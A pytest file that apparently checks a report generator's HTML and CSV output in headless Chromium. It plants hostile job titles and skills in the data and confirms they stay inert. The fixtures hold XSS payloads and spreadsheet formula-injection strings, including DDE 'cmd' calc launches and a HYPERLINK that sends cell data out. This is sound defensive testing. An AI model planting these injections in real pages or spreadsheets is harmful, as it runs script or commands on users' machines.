"""Real headless Chromium opens every report and the index from files, network blocked.

The warehouse is the small synthetic market plus a scraped job feed whose titles,
descriptions and skills are hostile (loaded by ``fdsa ingest``, as a user would), and
the index also gets hostile run parameters and errors. Each payload would set
``data-pwned`` on the page if it ran.
"""

from __future__ import annotations

import html
import json
import re
import shutil
from pathlib import Path

import pytest
import yaml

from fdsa.ingest import ingest_file
from fdsa.reporting.batch import run_batch
from fdsa.reporting.index import record
from fdsa.reporting.params import REPORTS
from fdsa.reporting.results import RunResult

# one worker opens each page once for every test (make test: --dist loadgroup)
pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]
PAYLOAD = "document.body.dataset.pwned=1"  # sets data-pwned="1" if it ever runs
HOSTILE = (
    f"<script>{PAYLOAD}</script>",
    f"<img src=x onerror={PAYLOAD}>",
    f'"><svg onload="{PAYLOAD}">',
    f"javascript:{PAYLOAD}",
)
FORMULAS = (
    '=HYPERLINK("http://example.invalid/x?"&A1,"Click for the data")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "@A1",
)
"""Titles a spreadsheet would run as formulas if a CSV download carried them verbatim."""
PWNED = re.compile(r"""data-pwned\s*=\s*["']?1""")
NICHE = "llm_applications"


def hostile_feed(path: Path, n: int = 1600) -> Path:
    """Feed items as a scraper would save them: hostile titles, descriptions and skills."""
    items = [
        {
            "title": (
                f"LLM chatbot {HOSTILE[i % len(HOSTILE)]}" if i % 10 < 4 else FORMULAS[i % 10 - 4]
            ),
            "link": f"https://example.com/jobs/hostile-{i}",
            "published": f"2024-03-{1 + i % 28:02d}T10:00:00Z",
            "description": (
                f"{html.escape(HOSTILE[(i + 1) % len(HOSTILE)])}<br />"
                "<b>Hourly Range</b>: $40.00-$80.00<br />"
                f"<b>Skills</b>: {html.escape(HOSTILE[1])}, =1+1, Python, LangChain<br />"
                "<b>Country</b>: United States"
            ),
        }
        for i in range(n)
    ]
    path.write_text(json.dumps(items), encoding="utf-8")
    return path


def hostile_salaries(path: Path, n: int = 60) -> Path:
    """Salary-survey rows in the aijobs.net layout whose job titles are hostile."""
    header = (
        "work_year,experience_level,employment_type,job_title,salary,salary_currency,"
        "salary_in_usd,employee_residence,remote_ratio,company_location,company_size"
    )
    rows = [
        f'2024,MI,{("FT", "FL", "CT")[i % 3]},"Data Scientist {HOSTILE[i % len(HOSTILE)]}",'
        f"{90000 + i},USD,{90000 + i},US,100,US,M"
        for i in range(n)
    ]
    path.write_text("\n".join([header, *rows]) + "\n", encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def site(small_warehouse: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Every declared report, run as one batch on the hostile warehouse."""
    root = tmp_path_factory.mktemp("hostile-site")
    warehouse = root / "hostile.duckdb"
    shutil.copyfile(small_warehouse, warehouse)
    ingest_file(hostile_feed(root / "feed.json"), format_name="feed-json", warehouse=warehouse)
    salaries = hostile_salaries(root / "salaries.csv")
    ingest_file(salaries, format_name="aijobs-salaries", warehouse=warehouse)
    runs = [
        {"report": name, "params": {"niche": NICHE} if name == "niche_explorer" else {}}
        for name in REPORTS
    ]
    spec = root / "runs.yaml"
    spec.write_text(yaml.safe_dump({"runs": runs}))
    out = root / "reports"
    results, skipped = run_batch(spec, warehouse=warehouse, out_dir=out, workers=2)
    assert not skipped
    failed = {r.report: r.error for r in results if r.status != "ok"}
    assert failed == {}
    return out


PROBES = ("probe-", "layout-")
"""Prefixes of the probe copies the tests write beside a page."""


def published(site: Path, report: str) -> list[Path]:
    """The page of ``report`` (or the index), not the probe copies written beside it."""
    if report == "index":
        return [site / "index.html"]
    return [p for p in site.glob(f"{report}/*.html") if not p.name.startswith(PROBES)]


def test_every_report_is_published_from_the_hostile_warehouse(site):
    pages = [p for p in sorted(site.glob("*/*.html")) if not p.name.startswith(PROBES)]
    assert {p.parent.name for p in pages} == set(REPORTS)


@pytest.mark.parametrize("report", sorted(REPORTS))
def test_report_renders_offline_and_planted_text_stays_text(at_desktop, report):
    dom, _ = at_desktop(report)
    assert 'class="main-svg"' in dom, "plotly drew no SVG from ../assets/plotly.min.js"
    assert not PWNED.search(dom)
    assert "<svg onload" not in dom and '<img src="x"' not in dom


def test_hostile_titles_and_skills_are_visible_as_text(at_desktop):
    shown = {report: at_desktop(report)[0] for report in ("warehouse_overview", "niche_explorer")}
    assert f"&lt;script&gt;{PAYLOAD}&lt;/script&gt;" in shown["warehouse_overview"]
    assert f"&lt;img src=x onerror={PAYLOAD}&gt;" in shown["niche_explorer"]  # a skill


def test_a_report_screenshot_is_not_blank(site, chromium, tmp_path):
    from PIL import Image, ImageStat

    (page,) = published(site, "market_overview")
    shot = tmp_path / "report.png"
    chromium("--window-size=1200,2000", f"--screenshot={shot}", page.as_uri())
    with Image.open(shot) as image:
        gray = image.convert("L")
        assert gray.size == (1200, 2000)
        assert ImageStat.Stat(gray).stddev[0] > 10  # text and plots, not a blank page


def test_index_lists_every_run_and_hostile_entries_do_not_execute(site, chromium, tmp_path):
    out = tmp_path / "reports"
    shutil.copytree(site, out)
    record(
        out,
        RunResult(
            report="market_overview",
            slug="hostile",
            status="failed",
            parameters={"since": HOSTILE[0], HOSTILE[1]: HOSTILE[2]},
            error=HOSTILE[1],
            headlines=[HOSTILE[0]],
            log=f"_failed/{HOSTILE[3]}.log",
        ),
    )
    dom = chromium("--dump-dom", (out / "index.html").as_uri()).stdout
    assert not PWNED.search(dom)
    assert "&lt;script&gt;" in dom
    for report in REPORTS:
        assert f"{report}/" in dom


DESKTOP = 1400
"""Width of the desktop window every page is opened in once (height 900)."""

DESKTOP_PROBE = """
var d = document, b = d.querySelector('.fdsa-provenance'), h = d.querySelector('h1');
var r = b ? b.getBoundingClientRect() : null, t = h ? h.getBoundingClientRect() : null;
var layout = {banner: r && [r.top, r.bottom, r.height, getComputedStyle(b).visibility,
  getComputedStyle(b).display], heading: t && t.top, viewport: window.innerHeight};
var resources = performance.getEntriesByType('resource').map(function (e) { return e.name; });
return {layout: layout, resources: resources, reader: READER};
"""
"""What the desktop tests read, in this order: where the provenance banner and the first
heading sit before anything scrolls, the network resources the page requested (file://
loads are not listed), then :data:`READER_PROBE` (which scrolls to each section)."""


def _open_at_desktop(chromium, page: Path) -> tuple[str, dict]:
    """Open ``page`` once at the desktop width with :data:`DESKTOP_PROBE` added: the DOM
    Chromium ends with and what the probe saw."""
    reader = "(function (window, document) {" + READER_PROBE + "})(window, document)"
    script = (
        "<script>window.addEventListener('load', function () { setTimeout(function () {"
        "var out = (function () {" + DESKTOP_PROBE.replace("READER", reader) + "})();"
        "document.body.setAttribute('data-probe', JSON.stringify(out)); }, 0); });</script>"
    )
    probe = page.with_name(f"{PROBES[0]}{page.name}")
    probe.write_text(page.read_text().replace("</body>", script + "</body>", 1))
    dom = chromium(f"--window-size={DESKTOP},900", "--dump-dom", probe.as_uri()).stdout
    found = re.search(r'data-probe="([^"]*)"', dom)
    assert found, "the page never finished loading"
    return dom, json.loads(html.unescape(found.group(1)))


@pytest.fixture(scope="module")
def at_desktop(site, module_chromium):
    """``report`` (or ``"index"``) -> its DOM and probe at the desktop width, each page
    opened once for every test that reads it (one Chromium run costs seconds)."""
    seen: dict[str, tuple[str, dict]] = {}

    def open_page(report: str) -> tuple[str, dict]:
        if report not in seen:
            (page,) = published(site, report)
            seen[report] = _open_at_desktop(module_chromium, page)
        return seen[report]

    return open_page


def test_the_request_probe_sees_a_blocked_request(chromium, tmp_path):
    page = tmp_path / "control.html"
    page.write_text('<html><body><img src="https://example.com/x.png"></body></html>')
    _, seen = _open_at_desktop(chromium, page)
    assert seen["resources"] == ["https://example.com/x.png"]


@pytest.mark.parametrize("report", [*sorted(REPORTS), "index"])
def test_a_page_makes_no_network_request(at_desktop, report):
    _, seen = at_desktop(report)
    assert seen["resources"] == []


@pytest.mark.parametrize("report", [*sorted(REPORTS), "index"])
def test_the_provenance_banner_is_visible_above_the_first_heading(at_desktop, report):
    _, seen = at_desktop(report)
    layout = seen["layout"]
    top, bottom, height, visibility, display = layout["banner"]
    assert height > 20 and visibility == "visible" and display != "none"
    assert 0 <= top and bottom <= layout["viewport"]  # on the first screen, no scrolling
    assert bottom <= layout["heading"]  # above the page's first heading


def _csv_downloads(page: Path) -> dict[str, list[dict[str, str]]]:
    """Every CSV download of ``page``, decoded: file name -> rows."""
    import base64
    import csv
    import io

    found = {}
    for name, data in re.findall(
        r'download="([^"]+\.csv)" href="data:text/csv;base64,([A-Za-z0-9+/=]+)"', page.read_text()
    ):
        text = base64.b64decode(data).decode("utf-8")
        found[name] = list(csv.DictReader(io.StringIO(text)))
    return found


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_no_csv_download_carries_a_spreadsheet_formula(site):
    from fdsa.reporting.display import FORMULA_STARTS
    from fdsa.reporting.outputs import CSV_NOTE

    n_files, n_neutralised, negatives = 0, 0, 0
    for report in REPORTS:
        (page,) = published(site, report)
        downloads = _csv_downloads(page)
        assert downloads, f"{report} offers no CSV"
        assert html.escape(CSV_NOTE) in page.read_text()
        for name, rows in downloads.items():
            n_files += 1
            for row in rows:
                for cell in row.values():
                    if _is_number(cell):
                        negatives += cell.startswith("-")  # numbers stay numbers, sign and all
                        continue
                    assert not cell.startswith(FORMULA_STARTS), (report, name, cell)
                    n_neutralised += cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS)
    assert n_neutralised > 0, "the planted formulas never reached a CSV"
    assert negatives > 0, "no negative number was checked"
    titles = _csv_downloads(published(site, "warehouse_overview")[0])["top_job_titles.csv"]
    shown = {row["title"] for row in titles}
    assert "'" + FORMULAS[0] in shown and "'" + FORMULAS[1] in shown


# ------------------------------------------------------------------ pages people read

READER_PROBE = """
var d = document, w = window, out = {width: w.innerWidth, scroll: d.documentElement.scrollWidth,
  overflow: [], texts: [], toc: [], plots: [], tables: 0};
d.querySelectorAll('body *').forEach(function (e) {
  var r = e.getBoundingClientRect();
  if (!r.width || !r.height || r.right <= 0 || e.closest('.fdsa-table-wrap')) return;
  if (r.right > w.innerWidth + 1)
    out.overflow.push(e.tagName + '.' + String(e.className.baseVal || e.className).slice(0, 50)
      + ' ' + Math.round(r.left) + '..' + Math.round(r.right));
});
d.querySelectorAll('th').forEach(function (e) {
  out.texts.push(['header', e.textContent.trim()]);
});
d.querySelectorAll('table.fdsa-table').forEach(function () { out.tables += 1; });
d.querySelectorAll('.js-plotly-plot').forEach(function (gd) {
  var L = gd._fullLayout;
  Object.keys(L).forEach(function (k) {
    if (/^[xy]axis[0-9]*$/.test(k) && L[k].title && L[k].title.text)
      out.texts.push(['axis title', L[k].title.text]);
  });
  gd.querySelectorAll('.xtick text, .ytick text, .x2tick text, .y2tick text').forEach(function (t) {
    out.texts.push(['tick label', t.textContent.trim()]);
  });
  gd.data.forEach(function (t) {
    if (t.showlegend !== false && t.name) out.texts.push(['legend', t.name]);
    if (t.hovertemplate) out.texts.push(['hover label', String(t.hovertemplate)]);
  });
  out.plots.push([L.width, L._size.w]);
});
d.querySelectorAll('.fdsa-toc a').forEach(function (a) {
  var t = d.getElementById(a.getAttribute('href').slice(1));
  if (t) t.scrollIntoView();
  out.toc.push([a.textContent, t ? t.tagName : null,
    t ? t.textContent.replace('\\u00b6', '').trim() : null,
    t ? t.getBoundingClientRect().top : null, w.innerHeight]);
});
return out;
"""


def _probe_at(chromium, page: Path, width: int, script: str, height: int = 900) -> dict:
    """Run ``script`` on ``page`` in an iframe ``width`` px wide (a real viewport of that width;
    headless Chromium's own window is never narrower than 500 px)."""
    frame = page.with_name(f"{PROBES[1]}{width}-{page.name}")
    frame.write_text(
        "<html><body style='margin:0'>"
        f"<iframe id='f' src='{page.name}' style='width:{width}px;height:{height}px;border:0'>"
        "</iframe><script>document.getElementById('f').addEventListener('load', function () {"
        "var w = this.contentWindow; setTimeout(function () {"
        f"var out = (function (window, document) {{{script}}})(w, w.document);"
        "document.body.setAttribute('data-probe', JSON.stringify(out)); }, 0); });"
        "</script></body></html>"
    )
    dom = chromium(
        "--allow-file-access-from-files",
        f"--window-size={max(width, 500)},{height}",
        "--dump-dom",
        frame.as_uri(),
    ).stdout
    found = re.search(r'data-probe="([^"]*)"', dom)
    assert found, "the page never finished loading"
    return json.loads(html.unescape(found.group(1)))


_SNAKE = re.compile(r"^[a-z][a-z0-9]*(_[a-z0-9]+)+$")
_PLACEHOLDER = re.compile(r"%\{[^}]*\}|<[^>]+>")


@pytest.fixture(scope="module")
def identifiers(site, small_warehouse) -> set[str]:
    """Raw column identifiers: every schema column and every analysis output column (the
    CSV downloads carry the analysis columns as they are)."""
    import duckdb

    with duckdb.connect(str(small_warehouse), read_only=True) as con:
        names = {r[0] for r in con.execute("select column_name from duckdb_columns()").fetchall()}
    for report in REPORTS:
        for rows in _csv_downloads(published(site, report)[0]).values():
            names |= set(rows[0]) if rows else set()
    return names


def _raw(text: str, identifiers: set[str]) -> list[str]:
    """The raw identifiers ``text`` shows (a whole text, or a word of a hover label)."""
    plain = _PLACEHOLDER.sub(" ", text).strip()
    if plain in identifiers or _SNAKE.fullmatch(plain):
        return [plain]
    words = re.findall(r"[A-Za-z_][A-Za-z0-9_]*", plain)
    return [w for w in words if "_" in w and (w in identifiers or _SNAKE.fullmatch(w))]


@pytest.mark.parametrize("width", [DESKTOP, 420])
@pytest.mark.parametrize("report", [*sorted(REPORTS), "index"])
def test_pages_read_at_desktop_and_phone_widths(
    site, chromium, at_desktop, identifiers, report, width
):
    if width == DESKTOP:
        seen = at_desktop(report)[1]["reader"]
    else:  # narrower than a headless window can be: in an iframe
        (page,) = published(site, report)
        seen = _probe_at(chromium, page, width, READER_PROBE)
    assert seen["width"] == width
    assert seen["scroll"] <= width, "the page scrolls sideways"
    assert seen["overflow"] == [], "elements stick out of the page"
    raw = [(what, text, r) for what, text in seen["texts"] for r in _raw(text, identifiers)]
    assert raw == [], "axis titles, legends, hover labels or headers show raw identifiers"
    assert any(what == "header" for what, _ in seen["texts"])
    if report == "index":
        return
    for plot_width, area_width in seen["plots"]:
        assert plot_width <= width and area_width >= plot_width / 3, seen["plots"]
    declared = [s.title for s in REPORTS[report].sections]
    assert [t[0] for t in seen["toc"]] == declared
    for text, tag, target, top, viewport in seen["toc"]:
        assert (tag, target) == ("H2", text), "a contents link lands elsewhere"
        assert -2 <= top < viewport, f"{text}: the section heading is not on screen ({top})"


def _figures(page: Path) -> list[dict]:
    """The figures of ``page`` as plotly draws them (the JSON of each Plotly.newPlot)."""
    decoder, found = json.JSONDecoder(), []
    text = page.read_text()
    for match in re.finditer(r'Plotly\.newPlot\(\s*"[^"]+",\s*', text):
        data, end = decoder.raw_decode(text, match.end())
        layout, _ = decoder.raw_decode(text, text.index("{", end))
        found.append({"data": data, "layout": layout})
    return found


def test_one_colour_per_category_on_every_page(site):
    colours: dict[str, set[str]] = {}
    n_named = 0
    for report in REPORTS:
        for fig in _figures(published(site, report)[0]):
            for trace in fig["data"]:
                colour = (trace.get("marker") or {}).get("color")
                if trace.get("showlegend", True) and trace.get("name") and isinstance(colour, str):
                    colours.setdefault(trace["name"], set()).add(colour)
                    n_named += 1
            assert fig["layout"]["template"]["layout"]["font"]["family"].startswith("system-ui")
    assert n_named > 10 and {"Applications", "Referrals", "Agreed hourly rate"} <= set(colours)
    assert {name: c for name, c in colours.items() if len(c) > 1} == {}


def _array(values) -> list:
    """A plotly JSON array: a list, or a typed array as plotly writes numpy ({dtype, bdata})."""
    import base64

    import numpy as np

    if isinstance(values, dict) and "bdata" in values:
        return np.frombuffer(base64.b64decode(values["bdata"]), dtype=values["dtype"]).tolist()
    return list(values)


def test_forest_plots_are_sorted(site):
    shown = 0
    for report in ("rate_advisor", "research_reputation", "market_overview"):
        for fig in _figures(published(site, report)[0]):
            for trace in fig["data"]:
                if (trace.get("marker") or {}).get("symbol") == "diamond":
                    x = [v for v in _array(trace["x"]) if v is not None]
                    assert x == sorted(x), report
                    shown += 1
    assert shown >= 3


def test_a_table_and_its_figure_offer_one_download(site):
    for report in [*REPORTS]:
        page = published(site, report)[0].read_text()
        names = re.findall(r'download="([^"]+\.csv)"', page)
        assert len(names) == len(set(names)), (report, names)
        payloads = re.findall(r'href="data:text/csv;base64,([A-Za-z0-9+/=]+)"', page)
        assert len(payloads) == len(set(payloads)), f"{report}: the same rows offered twice"


PRINT_PROBE = """
var d = document, w = window;
Array.prototype.forEach.call(d.styleSheets, function (sheet) {
  Array.prototype.forEach.call(sheet.cssRules, function (rule) {
    if (rule.media && rule.media.mediaText === 'print') rule.media.mediaText = 'all';
  });
});
var out = {width: w.innerWidth, toolbars: 0, tables: [], figures: []};
d.querySelectorAll('.modebar-container, .modebar').forEach(function (m) {
  if (getComputedStyle(m).display !== 'none' && m.getBoundingClientRect().height > 0)
    out.toolbars += 1;
});
d.querySelectorAll('table.fdsa-table').forEach(function (t) {
  var r = t.getBoundingClientRect(), cols = t.querySelectorAll('th').length, hidden = 0;
  t.querySelectorAll('th').forEach(function (th) {
    var c = th.getBoundingClientRect(); if (c.right > w.innerWidth + 1 || !c.width) hidden += 1; });
  out.tables.push([cols, hidden, Math.round(r.right)]);
});
d.querySelectorAll('.fdsa-figure').forEach(function (f) {
  var zoom = parseFloat(getComputedStyle(f).zoom) || 1, legend = f.querySelector('.legend');
  var r = f.getBoundingClientRect(), l = legend ? legend.getBoundingClientRect() : r;
  out.figures.push([Math.round(r.right), Math.round(l.right), zoom]);
});
return out;
"""


def test_a_printed_report_keeps_every_column_and_no_toolbar(site, chromium, tmp_path):
    import shutil as sh
    import subprocess

    (page,) = published(site, "market_overview")
    # the print styles applied on a paper-wide viewport: every column inside the paper
    printed = _probe_at(chromium, page, 700, PRINT_PROBE)
    assert printed["toolbars"] == 0
    assert printed["tables"] and all(hidden == 0 for _, hidden, _ in printed["tables"])
    assert all(right <= 700 for *_, right in printed["tables"])
    assert all(fig <= 700 and legend <= 700 for fig, legend, _ in printed["figures"])
    # and the PDF Chromium prints: no toolbar text, every header of every table
    pdf = tmp_path / "report.pdf"
    chromium("--no-pdf-header-footer", f"--print-to-pdf={pdf}", page.as_uri())
    assert pdf.exists() and pdf.stat().st_size > 10_000
    if sh.which("pdftotext") is None:
        pytest.skip("pdftotext (poppler-utils) is not installed: .ci/run installs it")
    text = subprocess.run(
        ["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True
    ).stdout
    words = set(re.findall(r"[A-Za-z0-9]+", text))
    for toolbar in ("Download plot", "Autoscale", "Reset axes", "Produced with Plotly"):
        assert toolbar not in text
    headers = re.findall(r"<th[^>]*>(.*?)</th>", page.read_text(), re.S)
    table_headers = [html.unescape(re.sub(r"<[^>]+>", "", h)).strip() for h in headers]
    tokens = {h: re.findall(r"[A-Za-z0-9]+", h) for h in table_headers}
    missing = {h for h, t in tokens.items() if not (set(t) <= words or "".join(t) in words)}
    assert missing == set()
